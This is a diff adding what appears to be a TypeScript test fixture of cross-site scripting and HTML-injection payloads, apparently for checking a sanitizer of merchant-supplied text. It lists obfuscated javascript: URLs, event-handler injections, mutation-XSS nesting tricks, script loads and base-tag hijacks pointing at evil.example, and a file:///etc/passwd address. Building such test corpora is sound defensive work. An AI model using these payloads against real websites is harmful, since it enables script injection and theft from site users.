@@ -1,0 +1,88 @@
+const call = 'alert(1)'
+const elements =
+  'script img svg math iframe object embed form input button textarea select video audio source link meta base style template noscript frame frameset applet marquee keygen details dialog canvas portal slot'.split(
+    ' ',
+  )
+const handlers =
+  'onclick onerror onload onmouseover onfocus ontoggle onanimationstart onpointerrawupdate onbegin onscrollend'.split(
+    ' ',
+  )
+const addresses = [
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  ' javascript:alert(1)',
+  'java\tscript:alert(1)',
+  'java\nscript:alert(1)',
+  'java\0script:alert(1)',
+  '\u0001javascript:alert(1)',
+  '&#106;avascript:alert(1)',
+  '&#x6A;avascript:alert(1)',
+  '&#0000106avascript:alert(1)',
+  'javascript&colon;alert(1)',
+  'javascript&#58;alert(1)',
+  'java&Tab;script:alert(1)',
+  'vbscript:msgbox(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'data:image/svg+xml;base64,PHN2Zy8+',
+  'blob:https://a.example/1',
+  'file:///etc/passwd',
+  'view-source:javascript:1',
+  '//evil.example',
+  '/\\evil.example',
+  'https://user:pass@evil.example/',
+  'filesystem:https://a/1',
+  'intent://x#Intent;end',
+  'javascript://%0aalert(1)',
+  'feed:javascript:alert(1)',
+]
+
+/** Ways in which merchants' texts have tried to become code. */
+export const attacks: readonly string[] = [
+  ...elements.flatMap(name => [
+    `<${name} src=x href=x onload=${call}>`,
+    `<${name}><p onclick=${call}>x</${name}>`,
+  ]),
+  ...handlers.flatMap(name => [
+    `<p ${name}=${call}>x</p>`,
+    `<a href="https://a.example/" ${name}="${call}">x</a>`,
+  ]),
+  ...addresses.flatMap(address => [
+    `<a href="${address}">x</a>`,
+    `<a href='${address}'>x</a>`,
+    `<a href=${address}>x</a>`,
+  ]),
+  `<scr<script>ipt>${call}</script>`,
+  `<<script>${call}//<</script>`,
+  `<script/src=//evil.example>`,
+  `<script\n>${call}</script\n>`,
+  `<SCRIPT SRC=//evil.example></SCRIPT>`,
+  `<img """><script>${call}</script>">`,
+  `<svg><script>${call}</script></svg>`,
+  `<svg><style><img src=x onerror=${call}></style></svg>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
+  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
+  `<title><a href="</title><img src=x onerror=${call}>">`,
+  `<textarea><img src=x onerror=${call}></textarea>`,
+  `<!--><img src=x onerror=${call}>-->`,
+  `<!--<img src="--><img src=x onerror=${call}>">`,
+  `<![CDATA[<img src=x onerror=${call}>]]>`,
+  `<?xml version="1.0"?><img src=x onerror=${call}>`,
+  `<p/onclick=${call}>x`,
+  `<p style="background:url(javascript:${call})">x</p>`,
+  `<p style="x:expression(${call})">x</p>`,
+  `<a href="https://a.example/" style="position:fixed;inset:0">x</a>`,
+  `<p is="evil-p" slot="x" part="x" id="till" class="till" name="createElement">x</p>`,
+  `<p key="k" ref="r" dangerouslySetInnerHTML="x" children="y">x</p>`,
+  `<p __proto__="x" constructor="y">x</p>`,
+  `<constructor>x</constructor><__proto__>y</__proto__><hasownproperty>z`,
+  `<a href="https://a.example/" target="_top" rel="opener" ping="//evil.example" download>x</a>`,
+  `<base href="//evil.example/"><a href="x">x</a>`,
+  `<meta http-equiv=refresh content="0;javascript:${call}">`,
+  `<form action="javascript:${call}"><button formaction="javascript:${call}">x</button></form>`,
+  `<iframe srcdoc="&lt;script&gt;${call}&lt;/script&gt;"></iframe>`,
+  `<a href="javascript:${call}" href="https://a.example/">x</a>`,
+  `<a title="href=javascript:${call}" href="https://a.example/">x</a>`,
+  `<a href="https://a.example/"onclick="${call}">x</a>`,
+  `<p <script>${call}</script>>x`,
+  `<li><p><li></p></ul></ol><table><p></td>x`,
+]
